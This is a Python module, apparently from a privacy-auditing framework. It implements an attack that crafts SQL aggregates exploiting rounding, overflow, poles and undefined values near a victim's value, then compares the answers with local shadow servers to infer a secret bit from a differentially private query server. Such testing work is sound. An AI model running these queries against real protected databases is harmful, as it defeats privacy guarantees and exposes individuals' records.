"""Expressions that look flat and are not: steps made of rounding, overflow, undefined values."""

from functools import partial
from typing import Any, ClassVar, final

from errorfloor.attacks.attack import Attack, Door, Shadows, outcome
from errorfloor.attacks.secret import Secret

STEP = 2**52  # doubles are whole numbers from here on, so adding it rounds


@final
class Evaluation(Attack):
    """Asks for steps, poles and overflows at the middle between the two values, and reads the answer as a bit."""

    name = "evaluation tricks"
    tries: ClassVar[str] = "asks for expressions whose rounding, overflow or missing value would give a bit away"

    def __init__(self) -> None:
        self._home: dict[Shadows, list[list[Any]]] = {}

    def guess(self, door: Door, secret: Secret, shadows: Shadows) -> float:
        """Compare every answer with those of the servers at home; where these differ widely, believe the nearer one."""
        if shadows not in self._home:
            self._home[shadows] = [_answers(*open_one()) for open_one in shadows]
        here, (first, second) = _answers(door, secret), self._home[shadows]
        votes = 0.0
        for mine, one, two in zip(here, first, second, strict=True):
            if isinstance(mine, str) or isinstance(one, str) or isinstance(two, str):
                votes += (mine == two) - (mine == one)
                continue
            (value, bound), (left, _), (right, _) = mine, one, two
            if value is None or left is None or right is None:
                votes += ((value is None) == (right is None)) - ((value is None) == (left is None))
            elif abs(left - right) > 4 * bound:
                votes += 1.0 if abs(value - right) < abs(value - left) else -1.0
        return votes


def _answers(door: Door, secret: Secret) -> list[Any]:
    found: list[Any] = []
    for sql in tricks(secret):
        answer = outcome(partial(door.ask, sql, spend=0.05))
        if isinstance(answer, str):
            found.append(answer.replace(secret.table, "table"))
        else:
            found.append((answer.to_arrow()["answer"][0].as_py(), answer.max_error["answer"]))
    return found


def tricks(secret: Secret) -> list[str]:
    """Give questions about the victim's number that a careless server answers with a step at the middle."""
    column, middle = secret.column, (secret.values[0] + secret.values[1]) / 2
    moved = f"({column} - {middle!r})"
    expressions = [
        f"sum(({moved} * 1e-9 + 0.5 + {STEP}) - {STEP})",
        f"sum((({moved} + 0.5) + {STEP}.0) - {STEP}.0)",
        f"sum(1e-9 / {moved})",
        f"sum(exp(1000 * {moved}))",
        f"sum(exp({moved} * 1e6) * 1e-300)",
        f"sum(sqrt({moved}))",
        f"sum(ln({moved}))",
        f"sum(nullif({column}, {secret.values[0]!r}))",
        f"sum(CASE WHEN {column} > {middle!r} THEN 1e-6 ELSE 0 END)",
        f"sum(sign({moved}) * 1e-6)",
        f"sum(round({moved} * 1e-3))",
        f"sum(floor({moved} / 1e6))",
        f"sum({column} * 1e308 * 10)",
        f"sum(CAST({moved} AS INTEGER))",
        f"sum(abs({moved}) / {moved} * 1e-9)",
        f"sum(tanh({moved} * 1e9) * 1e-9)",
    ]
    return [f"SELECT {one} AS answer FROM {secret.table} WHERE {secret.condition()}" for one in expressions]
